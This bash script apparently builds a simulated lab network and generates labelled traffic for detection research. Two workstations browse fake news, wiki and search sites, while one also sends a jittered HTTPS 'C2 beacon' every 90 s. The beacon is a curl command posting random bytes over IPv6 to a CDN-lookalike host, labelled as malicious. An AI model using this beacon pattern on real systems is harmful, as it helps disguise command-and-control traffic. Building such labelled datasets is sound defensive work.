#!/usr/bin/env bash
# A TLS agent over IPv6 only: 90 s ± 20 % for four hours. The rest of the network is dual-stack.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-19T10:00:00Z
uc_start 560 curl nginx-light
uc_lan 10.66.1.1/24 fd00:66:1::1/64
uc_host ws30 10.66.1.30 fd00:66:1::30
uc_host ws31 10.66.1.31 fd00:66:1::31
uc_browse_sites
# Some sites have both kinds of address.
for site in "www.dailyharbour.example 2001:db8:51::20" "static.dailyharbour.example 2001:db8:51::21" "www.findwell.example 2001:db8:51::8" "en.openlexicon.example 2001:db8:51::35"; do uc_name $site; done
uc_site img.stackpixel-cdn.example 2001:db8:c2::7
uc_up

uc_plan <<'PY'
from plan import Plan
plan = Plan(seed=66)
end = 4 * 3600
def check_in(number):
    remembered = "--resolve 'img.stackpixel-cdn.example:443:[2001:db8:c2::7]' " if number % 5 else ""
    return (f"head -c {150 if number % 19 else 1900} /dev/urandom | curl -6 -s -o /dev/null --cacert $UC_CA {remembered}"
            f"--data-binary @- https://img.stackpixel-cdn.example/task-{number % 12 if number % 7 == 0 else 5}")
plan.every("10.66.1.30", 77, end, 90, 0.2, check_in)
plan.browse("10.66.1.30", 400, end, ["news", "wiki", "search"], break_s=1200)
plan.browse("10.66.1.31", 0, end, ["news", "wiki", "search", "mail"], break_s=1200)
plan.write()
PY
uc_drive --helper 10.66.1.30 browser "env UC_PREFER6=1 python3 $UC_TOOLS/browser.py" --helper 10.66.1.31 browser "env UC_PREFER6=1 python3 $UC_TOOLS/browser.py"
uc_finish "$(uc_versions curl nginx-light dnsmasq-base tcpdump)" --default-lane 10.66.1.31 --bulk-bytes 94 <<'LABELS'
fd00:66:1::30 [2001:db8:c2::7]:443 c2 beacon
LABELS
